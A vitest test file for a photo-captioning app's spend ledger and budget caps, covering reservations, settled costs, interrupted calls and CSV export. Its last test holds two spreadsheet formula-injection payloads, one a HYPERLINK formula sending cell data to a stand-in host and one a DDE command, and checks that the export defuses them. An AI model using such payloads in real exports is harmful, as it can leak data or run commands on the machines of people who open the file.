import { describe, expect, it } from 'vitest';
import { openDatabase } from '../db/openDatabase';
import { checkBudget } from './budget';
import {
  committedSpend,
  ledgerCsv,
  markInterruptedCalls,
  reserveCall,
  settleCall,
  type CallOutcome,
} from './ledger';

const noon = new Date(2026, 10, 23, 12, 0, 0);
const start = {
  at: noon,
  provider: 'openrouter' as const,
  model: 'mistralai/pixtral-12b',
  photoId: 1,
  photoHash: 'ab',
  attempt: 1,
  estimatedCost: 0.0005,
  reservedCost: 0.001,
};
const captioned: CallOutcome = {
  httpStatus: 200,
  latencyMs: 812,
  outcome: 'captioned',
  error: null,
  billed: true,
  inputTokens: 3260,
  outputTokens: 80,
  imageTokens: 3120,
  reportedCost: 0.00048,
  cost: 0.00048,
  generationId: 'gen-1',
};

describe('ledger and budget', () => {
  it('counts open reservations, then the settled cost', () => {
    const db = openDatabase(':memory:');
    const id = reserveCall(db, start);
    expect(committedSpend(db, noon).today).toBeCloseTo(0.001, 12);
    settleCall(db, id, captioned);
    expect(committedSpend(db, noon)).toEqual({ today: 0.00048, month: 0.00048, total: 0.00048 });
    const tomorrow = new Date(2026, 10, 24, 9);
    expect(committedSpend(db, tomorrow).today).toBe(0);
    expect(committedSpend(db, tomorrow).month).toBeCloseTo(0.00048, 12);
  });

  it('counts an unbilled failure as nothing and a crash-interrupted call at its reservation', () => {
    const db = openDatabase(':memory:');
    settleCall(db, reserveCall(db, start), {
      ...captioned,
      httpStatus: 429,
      billed: false,
      outcome: 'rate-limited',
    });
    reserveCall(db, start);
    expect(markInterruptedCalls(db)).toBe(1);
    expect(committedSpend(db, noon).total).toBeCloseTo(0.001, 12);
  });

  it('refuses a reservation that would pass a cap, naming the cap', () => {
    const db = openDatabase(':memory:');
    const caps = { dailyUsd: 0.0025, monthlyUsd: 1, totalUsd: null };
    reserveCall(db, start);
    reserveCall(db, start);
    expect(checkBudget(db, caps, 0.0005, noon)).toEqual({ ok: true });
    const refused = checkBudget(db, caps, 0.001, noon);
    expect(refused).toMatchObject({ ok: false, cap: 'daily' });
    expect(!refused.ok && refused.message).toMatch(/daily limit of \$0\.0025 is reached/);
  });

  it('exports every call as CSV, quoting what needs it', () => {
    const db = openDatabase(':memory:');
    settleCall(db, reserveCall(db, start), { ...captioned, error: 'said "no", twice' });
    const [header, row] = ledgerCsv(db).trim().split('\r\n');
    expect(header).toContain('reported_cost');
    expect(row).toContain('"said ""no"", twice"');
    expect(row).toContain('gen-1');
  });

  it('defuses formulas a provider put in a generation id or an error', () => {
    const db = openDatabase(':memory:');
    settleCall(db, reserveCall(db, start), {
      ...captioned,
      generationId: '=HYPERLINK("http://x.example/?"&A1,"open")',
      error: '+cmd|/c calc!A0',
    });
    const [, row] = ledgerCsv(db).trim().split('\r\n');
    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
    expect(row).toContain(`,'+cmd|/c calc!A0`);
    expect(row).not.toMatch(/,[=+\-@]/);
  });
});
